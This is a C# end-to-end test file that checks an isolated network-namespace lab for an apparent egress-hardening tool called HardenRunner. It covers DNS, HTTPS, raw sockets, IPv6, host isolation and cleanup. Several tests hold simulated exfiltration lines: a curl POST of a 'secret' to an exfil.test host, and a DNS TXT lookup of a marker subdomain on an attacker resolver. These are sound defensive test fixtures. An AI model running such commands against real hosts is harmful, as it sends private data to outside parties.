using System.Diagnostics;
using System.Security.Cryptography;
using HardenRunner.Lab;
using TestLab = HardenRunner.Lab.Lab;

namespace HardenRunner.EndToEnd.Tests;

/// <summary>
/// Proves the lab itself, without the appliance: DNS, HTTPS/HTTP, raw TCP/UDP, IPv6 and the attacker address work
/// from the runner namespace with real clients and land in the lab logs; the runner's resolver and trust store
/// changes never reach the host; dispose and the stale-lab sweep leave nothing behind.
/// </summary>
public sealed class LabSmokeTests(LabSmokeTests.SharedLab shared) : IClassFixture<LabSmokeTests.SharedLab>
{
    private static readonly TimeSpan ClientTimeout = TimeSpan.FromSeconds(15);
    private static readonly TimeSpan LogWait = TimeSpan.FromSeconds(5);

    [SkippableFact]
    public async Task Dig_FromRunner_AnswersZone_AndLogsEveryQuery()
    {
        var lab = shared.Get();
        var name = Unique("dig") + ".allowed.test";

        var a = await Dig(lab, "@192.0.2.53", "+short", name, "A");
        Assert.Equal("198.51.100.10", a.StandardOutput.Trim());
        var overTcp = Unique("tcp") + ".allowed.test";
        var aaaa = await Dig(lab, "@192.0.2.53", "+tcp", "+short", overTcp, "AAAA");
        Assert.Equal("2001:db8:100::10", aaaa.StandardOutput.Trim());
        var alias = await Dig(lab, "@2001:db8::53", "+short", "alias.test", "A");
        Assert.Equal(["allowed.test.", "198.51.100.10"], alias.StandardOutput.Split('\n', StringSplitOptions.RemoveEmptyEntries));
        var missing = await Dig(lab, "@192.0.2.53", "+noall", "+comments", Unique("nosuch") + ".test", "A");
        Assert.Contains("status: NXDOMAIN", missing.StandardOutput, StringComparison.Ordinal);
        var github = await Dig(lab, "@192.0.2.53", "+short", "api.github.com", "A");
        Assert.Equal("198.51.100.30", github.StandardOutput.Trim());

        var udp = await lab.DnsLog.WaitForAsync(q => q.Name == name, LogWait);
        Assert.Equal(("resolver", "udp", "A", "NoError"), (udp.Server, udp.Transport, udp.Type, udp.ResponseCode));
        Assert.StartsWith("192.0.2.1:", udp.Source, StringComparison.Ordinal);
        var tcp = await lab.DnsLog.WaitForAsync(q => q.Name == overTcp, LogWait);
        Assert.Equal(("tcp", "AAAA"), (tcp.Transport, tcp.Type));
        var v6 = await lab.DnsLog.WaitForAsync(q => q.Name == "alias.test", LogWait);
        Assert.StartsWith("[2001:db8::1]:", v6.Source, StringComparison.Ordinal);
        Assert.Contains(lab.DnsLog.Read(), q => q.ResponseCode == "NxDomain" && q.Name.StartsWith("nosuch-", StringComparison.Ordinal));
    }

    [SkippableFact]
    public async Task Curl_Https_ThroughRunnerResolver_Gets200_AndRequestIsLogged()
    {
        var lab = shared.Get();
        var name = Unique("web") + ".allowed.test";

        var result = await lab.RunInRunnerAsync(
            "curl", ["-sS", "-4", "--cacert", lab.CaCertificatePath, "-H", "X-Smoke: yes", $"https://{name}/hello/../x?q=1"], ClientTimeout);

        Assert.True(result.Succeeded, result.ToString());
        Assert.Equal("lab:allowed.test\n", result.StandardOutput);
        var dns = await lab.DnsLog.WaitForAsync(q => q.Name == name, LogWait);
        Assert.Equal("resolver", dns.Server);
        var request = await lab.HttpLog.WaitForAsync(r => r.Host == name, LogWait);
        Assert.Equal(("https", name, "GET", "allowed.test"), (request.Scheme, request.Sni, request.Method, request.Server));
        Assert.Equal("192.0.2.1", request.RemoteAddress);
        Assert.Equal("198.51.100.10", request.LocalAddress);
        Assert.Equal("yes", request.Headers["x-smoke"]); // header names are recorded in lower case (HTTP/1.1 and HTTP/2 alike)
        Assert.Equal("/x?q=1", request.RawTarget); // curl itself squashes the dot segment
    }

    [SkippableFact]
    public async Task Curl_Ipv6_EchoesPostBody_AndPlainHttpDownloadStreamsBytes()
    {
        var lab = shared.Get();
        var secret = Unique("secret");

        var echo = await lab.RunInRunnerAsync(
            "curl", ["-sS", "-6", "--cacert", lab.CaCertificatePath, "--data-binary", secret, "https://exfil.test/echo"], ClientTimeout);
        Assert.True(echo.Succeeded, echo.ToString());
        Assert.Equal(secret, echo.StandardOutput);
        var post = await lab.HttpLog.WaitForAsync(r => r.BodyPreview == secret, LogWait);
        Assert.Equal(("exfil.test", "POST", "/echo"), (post.Server, post.Method, post.Path));
        Assert.Equal(("2001:db8::1", "2001:db8:100::20"), (post.RemoteAddress, post.LocalAddress));
        Assert.Equal(secret.Length, post.BodyLength);

        var download = await lab.RunInRunnerAsync(
            "curl", ["-sS", "-o", "/dev/null", "-w", "%{http_code} %{size_download}", "http://allowed.test/download/123457"], ClientTimeout);
        Assert.True(download.Succeeded, download.ToString());
        Assert.Equal("200 123457", download.StandardOutput);
        Assert.Contains(lab.HttpLog.Read(), r => r.Scheme == "http" && r.Path == "/download/123457" && r.Sni is null);
    }

    [SkippableFact]
    public async Task Attacker_PresentsValidCertificateForAllowedName_AndRunsRogueResolver()
    {
        var lab = shared.Get();
        var marker = Unique("attacker");

        var result = await lab.RunInRunnerAsync(
            "curl",
            ["-sS", "--cacert", lab.CaCertificatePath, "--resolve", $"allowed.test:443:{lab.Attacker.V4}", $"https://allowed.test/{marker}"],
            ClientTimeout);
        Assert.True(result.Succeeded, result.ToString());
        Assert.Equal("lab:attacker\n", result.StandardOutput);
        var request = await lab.HttpLog.WaitForAsync(r => r.Path == "/" + marker, LogWait);
        Assert.Equal(("attacker", "allowed.test", "198.51.100.66"), (request.Server, request.Sni, request.LocalAddress));

        var rogue = await Dig(lab, $"@{lab.Attacker.V6}", "+short", marker + ".exfil.test", "TXT");
        Assert.Equal("", rogue.StandardOutput.Trim()); // the name exists (wildcard) but has no TXT record
        var query = await lab.DnsLog.WaitForAsync(q => q.Name == marker + ".exfil.test", LogWait);
        Assert.Equal(("attacker", "TXT", "NoError"), (query.Server, query.Type, query.ResponseCode));
    }

    [SkippableFact]
    public async Task RawTcpAndUdp_OverIpv4AndIpv6_PayloadsAreRecorded()
    {
        var lab = shared.Get();
        var tag = Unique("raw");
        const string Script = """
            import socket, sys
            tag = sys.argv[1]
            for family, host, port in ((socket.AF_INET, "198.51.100.20", 9000), (socket.AF_INET6, "2001:db8:100::20", 22)):
                with socket.socket(family, socket.SOCK_STREAM) as s:
                    s.settimeout(5); s.connect((host, port)); s.sendall(("tcp:" + tag).encode())
            for family, host, port in ((socket.AF_INET, "198.51.100.20", 9001), (socket.AF_INET6, "2001:db8:100::20", 443)):
                with socket.socket(family, socket.SOCK_DGRAM) as s:
                    s.settimeout(5); s.sendto(("udp:" + tag).encode(), (host, port))
                    print(s.recvfrom(100)[0].decode().strip())
            """;

        var result = await lab.RunInRunnerAsync("python3", ["-c", Script, tag], ClientTimeout);

        Assert.True(result.Succeeded, result.ToString());
        Assert.Equal(["lab:exfil.test:9001", "lab:exfil.test:443"], result.StandardOutput.Split('\n', StringSplitOptions.RemoveEmptyEntries));
        var tcp4 = await lab.TcpLog.WaitForAsync(c => c.Preview == "tcp:" + tag && c.LocalPort == 9000, LogWait);
        Assert.Equal(("exfil.test", "192.0.2.1", 4 + tag.Length), (tcp4.Server, tcp4.RemoteAddress, (int)tcp4.BytesReceived));
        var tcp6 = await lab.TcpLog.WaitForAsync(c => c.Preview == "tcp:" + tag && c.LocalPort == 22, LogWait);
        Assert.Equal("2001:db8::1", tcp6.RemoteAddress);
        var udp4 = await lab.UdpLog.WaitForAsync(d => d.Preview == "udp:" + tag && d.LocalPort == 9001, LogWait);
        Assert.Equal(("198.51.100.20", "192.0.2.1"), (udp4.LocalAddress, udp4.RemoteAddress));
        var udp6 = await lab.UdpLog.WaitForAsync(d => d.Preview == "udp:" + tag && d.LocalPort == 443, LogWait);
        Assert.Equal("2001:db8:100::20", udp6.LocalAddress);
    }

    [SkippableFact]
    public async Task Runner_SeesOnlyTheLab_AndItsOwnResolver()
    {
        var lab = shared.Get();

        var links = await lab.RunInRunnerAsync("ip", ["-o", "link", "show"], ClientTimeout);
        var names = links.StandardOutput.Split('\n', StringSplitOptions.RemoveEmptyEntries)
            .Select(l => l.Split(':')[1].Trim().Split('@')[0]).Order().ToArray();
        Assert.Equal(["lo", "veth-inet"], names);
        var routes = await lab.RunInRunnerAsync("ip", ["route", "show", "default"], ClientTimeout);
        Assert.Equal("default via 192.0.2.2 dev veth-inet", routes.StandardOutput.Trim());
        var resolv = await lab.RunInRunnerAsync("cat", ["/etc/resolv.conf"], ClientTimeout);
        Assert.Contains("nameserver 192.0.2.53\n", resolv.StandardOutput, StringComparison.Ordinal);
        Assert.DoesNotContain(File.ReadAllText("/etc/resolv.conf"), resolv.StandardOutput, StringComparison.Ordinal);

        // routed into the internet namespace, but nobody is there: the connection must fail, not reach anything
        var nowhere = await lab.RunInRunnerAsync(
            "curl", ["-sS", "--connect-timeout", "1", $"http://{LabAddresses.NowhereV4}/"], ClientTimeout);
        Assert.False(nowhere.Succeeded, nowhere.ToString());
    }

    [SkippableFact]
    public async Task StartInRunner_LongRunningProcess_IsSignalledAndAwaited()
    {
        var lab = shared.Get();
        const string Script = """
            import signal, sys, time
            def term(signum, frame):
                print("got TERM", flush=True); sys.exit(3)
            signal.signal(signal.SIGTERM, term)
            print("ready", flush=True)
            for _ in range(300): time.sleep(0.1)
            """;

        await using var process = lab.StartInRunner("python3", ["-c", Script]);
        await WaitUntil(() => process.StandardOutput.Contains("ready", StringComparison.Ordinal), process.ToString());
        Assert.True(process.Terminate());
        var result = await process.WaitAsync(ClientTimeout);

        Assert.Equal(3, result.ExitCode);
        Assert.False(result.TimedOut);
        Assert.Contains("got TERM", result.StandardOutput, StringComparison.Ordinal);
    }

    [SkippableFact]
    public async Task RunnerResolverAndTrustStoreChanges_NeverReachTheHost()
    {
        LabRequirement.SkipUnlessAvailable();
        var home = Environment.GetEnvironmentVariable("HOME") ?? "/root";
        var before = HostSnapshot() + "\n" + Hash(Path.Combine(home, ".gitconfig"));
        const string Change = """
            set -e
            cp "$1" /usr/local/share/ca-certificates/hr-lab-smoke.crt
            echo '# hr-lab-smoke' >> /etc/ca-certificates.conf
            update-ca-certificates > /dev/null 2>&1
            curl -sS https://allowed.test/ > /tmp/out-trusted.txt 2>&1 || true
            echo 'nameserver 127.0.0.1' > /etc/resolv.conf
            git config --global user.name hr-lab-smoke
            """;

        await using (var lab = await TestLab.StartAsync())
        {
            var untrusted = await lab.RunInRunnerAsync("curl", ["-sS", "https://allowed.test/"], ClientTimeout);
            Assert.Equal(60, untrusted.ExitCode); // the lab CA is not in the (private copy of the) system store yet

            var change = await lab.RunInRunnerAsync("sh", ["-c", Change.Replace("/tmp/", lab.WorkDirectory + "/", StringComparison.Ordinal), "sh", lab.CaCertificatePath], TimeSpan.FromSeconds(60));
            Assert.True(change.Succeeded, change.ToString());

            Assert.Equal("lab:allowed.test\n", File.ReadAllText(Path.Combine(lab.WorkDirectory, "out-trusted.txt")));
            var inside = await lab.RunInRunnerAsync("cat", ["/etc/resolv.conf"], ClientTimeout);
            Assert.StartsWith("nameserver 127.0.0.1\n", inside.StandardOutput, StringComparison.Ordinal);
            var gitName = await lab.RunInRunnerAsync("git", ["config", "--global", "user.name"], ClientTimeout);
            Assert.Equal("hr-lab-smoke\n", gitName.StandardOutput);
            Assert.Equal(before, HostSnapshot() + "\n" + Hash(Path.Combine(home, ".gitconfig"))); // while the lab runs
        }

        Assert.Equal(before, HostSnapshot() + "\n" + Hash(Path.Combine(home, ".gitconfig"))); // and after it is gone
    }

    [SkippableFact]
    public async Task Dispose_RemovesNamespacesProcessesAndFiles()
    {
        LabRequirement.SkipUnlessAvailable();
        var lab = await TestLab.StartAsync();
        var sleeper = lab.StartInRunner("sleep", ["300"]);
        var pids = new[] { lab.LabInternetPid, sleeper.Pid };
        var namespaces = new[] { lab.RunnerNamespace, lab.InternetNamespace };
        Assert.All(namespaces, ns => Assert.Contains(ns, NetnsList()));
        Assert.All(pids, pid => Assert.True(IsAlive(pid), $"pid {pid} should run"));

        await lab.DisposeAsync();

        Assert.Empty(lab.CleanupProblems);
        Assert.All(namespaces, ns => Assert.DoesNotContain(ns, NetnsList()));
        Assert.All(pids, pid => Assert.False(IsAlive(pid), $"pid {pid} survived dispose"));
        Assert.False(Directory.Exists(lab.StateDirectory));
    }

    [SkippableFact]
    public async Task CleanStaleLabs_RemovesLabOfDeadOwner_AndKeepsLiveOnes()
    {
        var live = shared.Get();
        var deadPid = DeadPid();
        var stale = $"hrlab-{deadPid}-1";
        var state = Path.Combine(Path.GetTempPath(), stale);
        Directory.CreateDirectory(state);
        await Run("ip", "netns", "add", stale + "-r");
        var orphan = Process.Start("ip", ["netns", "exec", stale + "-r", "sleep", "300"]);
        try
        {
            await WaitUntil(() => File.ReadAllText($"/proc/{orphan.Id}/comm").Trim() == "sleep", "orphan sleep");

            await TestLab.CleanStaleLabsAsync();

            Assert.DoesNotContain(stale + "-r", NetnsList());
            Assert.False(Directory.Exists(state));
            Assert.True(orphan.WaitForExit(3000), "the stale lab's process was not killed");
            Assert.Contains(live.RunnerNamespace, NetnsList());
            Assert.True(IsAlive(live.LabInternetPid));
        }
        finally
        {
            if (!orphan.HasExited)
            {
                orphan.Kill();
            }

            if (NetnsList().Contains(stale + "-r"))
            {
                await Run("ip", "netns", "delete", stale + "-r");
            }

            if (Directory.Exists(state))
            {
                Directory.Delete(state, true);
            }

            orphan.Dispose();
        }
    }

    private static Task<LabProcessResult> Dig(TestLab lab, params string[] arguments)
        => lab.RunInRunnerAsync("dig", ["+time=2", "+tries=1", .. arguments], ClientTimeout);

    private static string Unique(string prefix) => $"{prefix}-{Guid.NewGuid():N}"[..(prefix.Length + 13)];

    private static async Task WaitUntil(Func<bool> condition, string what)
    {
        var clock = Stopwatch.StartNew();
        while (!condition())
        {
            Assert.True(clock.Elapsed < TimeSpan.FromSeconds(10), $"timed out waiting for: {what}");
            await Task.Delay(20);
        }
    }

    private static bool IsAlive(int pid) => Directory.Exists($"/proc/{pid}") && !File.ReadAllText($"/proc/{pid}/stat").Contains(") Z ", StringComparison.Ordinal);

    private static int DeadPid()
    {
        using var process = Process.Start("true")!;
        process.WaitForExit();
        Assert.False(Directory.Exists($"/proc/{process.Id}"));
        return process.Id;
    }

    private static string[] NetnsList()
        => Directory.Exists("/run/netns") ? [.. Directory.GetFiles("/run/netns").Select(Path.GetFileName).OfType<string>()] : [];

    private static async Task Run(string file, params string[] arguments)
    {
        using var process = Process.Start(file, arguments);
        await process.WaitForExitAsync();
        Assert.Equal(0, process.ExitCode);
    }

    private static string Hash(string path)
        => File.Exists(path) ? $"{path} {Convert.ToHexString(SHA256.HashData(File.ReadAllBytes(path)))}" : $"{path} (absent)";

    /// <summary>Everything of the host's resolver and trust store: path → content hash or symlink target.</summary>
    private static string HostSnapshot()
    {
        var lines = new List<string>();
        foreach (var root in new[] { "/etc/resolv.conf", "/etc/ca-certificates.conf", "/etc/ssl", "/usr/local/share/ca-certificates" })
        {
            var entries = Directory.Exists(root)
                ? Directory.EnumerateFileSystemEntries(root, "*", SearchOption.AllDirectories).Prepend(root)
                : [root];
            foreach (var path in entries.Order(StringComparer.Ordinal))
            {
                var info = new FileInfo(path);
                lines.Add(info.LinkTarget is { } target ? $"{path} -> {target}"
                    : Directory.Exists(path) ? $"{path}/"
                    : Hash(path));
            }
        }

        return string.Join('\n', lines);
    }

    /// <summary>One lab for the tests of this class; started only when the lab can run here.</summary>
    public sealed class SharedLab : IAsyncLifetime
    {
        private TestLab? _lab;
        private Exception? _startError;

        public TestLab Get()
        {
            LabRequirement.SkipUnlessAvailable();
            if (_startError is not null)
            {
                throw new InvalidOperationException("the shared lab failed to start", _startError);
            }

            return _lab!;
        }

        public async Task InitializeAsync()
        {
            if (!LabEnvironment.CanRun)
            {
                return;
            }

            try
            {
                _lab = await TestLab.StartAsync();
            }
            catch (Exception e)
            {
                _startError = e;
            }
        }

        public async Task DisposeAsync()
        {
            if (_lab is not null)
            {
                await _lab.DisposeAsync();
            }
        }
    }
}
